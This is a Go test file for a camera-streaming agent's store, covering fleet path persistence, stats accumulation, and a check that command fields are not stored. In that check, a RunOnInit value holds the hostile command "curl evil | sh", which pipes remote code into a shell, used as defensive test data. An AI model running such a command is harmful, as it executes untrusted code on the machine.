package store_test

import (
	"errors"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/camgate/camgate/agent/conf"
	"github.com/camgate/camgate/agent/store"
	"github.com/camgate/camgate/agent/store/storetest"
)

func fullPath() conf.PathConf {
	on, tr, mr := false, "tcp", 3
	d1, d2, d3, d4 := conf.Duration(5*time.Second), conf.Duration(7*time.Second), conf.Duration(9*time.Second), conf.Duration(2*time.Second)
	rec, rp := true, "/srv/rec/%path/%s-%f"
	r1, r2, r3 := conf.Duration(time.Minute), conf.Duration(2*time.Second), conf.Duration(48*time.Hour)
	b1, b2 := conf.ByteSize(10<<30), conf.ByteSize(1<<30)
	return conf.PathConf{
		Record:                     &rec,
		RecordPath:                 &rp,
		RecordSegmentDuration:      &r1,
		RecordPartDuration:         &r2,
		RecordDeleteAfter:          &r3,
		RecordMaxBytes:             &b1,
		RecordMinFreeBytes:         &b2,
		Source:                     "rtsps://admin:s3cret@10.0.0.64:554/Streaming/Channels/101",
		SourceOnDemand:             &on,
		SourceOnDemandStartTimeout: &d1,
		SourceOnDemandCloseAfter:   &d2,
		RTSPTransport:              &tr,
		ReadTimeout:                &d3,
		MaxReaders:                 &mr,
		SourceRetryMax:             &d4,
		SourceFingerprint:          conf.Fingerprint(strings.Repeat("0f", 32)),
	}
}

// TestFleetPathRoundTrip keeps the real source URL (conf.SecretURL redacts
// in JSON) and every field of conf.PathConf: setting each field to a
// non-zero value in fullPath is checked by reflection, so a field added to
// conf.PathConf without a place in the store's mirror fails here.
func TestFleetPathRoundTrip(t *testing.T) {
	p := fullPath()
	v := reflect.ValueOf(p)
	for i := range v.NumField() {
		if v.Type().Field(i).Tag.Get("origin") == "file" {
			continue // runOn*: never a fleet path's, see TestFleetPathNeverKeepsCommands
		}
		if v.Field(i).IsZero() {
			t.Fatalf("fullPath leaves conf.PathConf.%s zero: extend it and the store's mirror", v.Type().Field(i).Name)
		}
	}
	path := filepath.Join(t.TempDir(), store.FileName)
	s := storetest.Open(t, path, store.Options{})
	if err := s.PutFleetPath("cam9", p); err != nil {
		t.Fatal(err)
	}
	s.Close()
	s = storetest.Open(t, path, store.Options{})
	got, err := s.FleetPath("cam9")
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, p) {
		t.Fatalf("round trip:\n got %+v\nwant %+v", got, p)
	}
	if string(got.Source) != "rtsps://admin:s3cret@10.0.0.64:554/Streaming/Channels/101" {
		t.Fatalf("source lost its credentials: %q", got.Source)
	}
}

func TestFleetPathsSetDelete(t *testing.T) {
	s := storetest.New(t, store.Options{})
	s.PutFleetPath("a", conf.PathConf{Source: "demo"})
	s.PutFleetPath("b", conf.PathConf{Source: "publisher"})
	if err := s.DeleteFleetPath("a"); err != nil {
		t.Fatal(err)
	}
	if err := s.DeleteFleetPath("a"); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("delete absent: %v", err)
	}
	if err := s.SetFleetPaths(map[string]conf.PathConf{"c": {Source: "demo"}, "d": {Source: "demo"}}); err != nil {
		t.Fatal(err)
	}
	all, err := s.FleetPaths()
	if err != nil || len(all) != 2 || all["c"].Source != "demo" {
		t.Fatalf("after set: %v %v", all, err)
	}
	if _, err := s.FleetPath("b"); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("b survived set: %v", err)
	}
}

func TestPathStatsAccumulate(t *testing.T) {
	path := filepath.Join(t.TempDir(), store.FileName)
	s := storetest.Open(t, path, store.Options{})
	s.AddPathStats(map[string]store.PathStats{"cam1": {BytesIn: 10, Readers: 1}, "cam2": {Reconnects: 2}})
	s.Close()
	s = storetest.Open(t, path, store.Options{})
	s.AddPathStats(map[string]store.PathStats{"cam1": {BytesIn: 5, BytesOut: 7, PacketsDropped: 1}})
	all, err := s.AllPathStats()
	if err != nil {
		t.Fatal(err)
	}
	want := store.PathStats{BytesIn: 15, BytesOut: 7, Readers: 1, PacketsDropped: 1}
	if all["cam1"] != want || all["cam2"].Reconnects != 2 {
		t.Fatalf("stats %+v", all)
	}
}

// The runOn* keys start commands and come from the config file only: the
// store has no place for them, so a fleet path that somehow carried one
// comes back without it.
func TestFleetPathNeverKeepsCommands(t *testing.T) {
	s := storetest.New(t, store.Options{})
	yes := true
	p := conf.PathConf{Source: "publisher", RunOnInit: "sh -c 'curl evil | sh'", RunOnDemand: "ffmpeg", RunOnDemandRestart: &yes}
	if err := s.PutFleetPath("cam9", p); err != nil {
		t.Fatal(err)
	}
	got, err := s.FleetPath("cam9")
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, conf.PathConf{Source: "publisher"}) {
		t.Fatalf("stored %+v", got)
	}
}
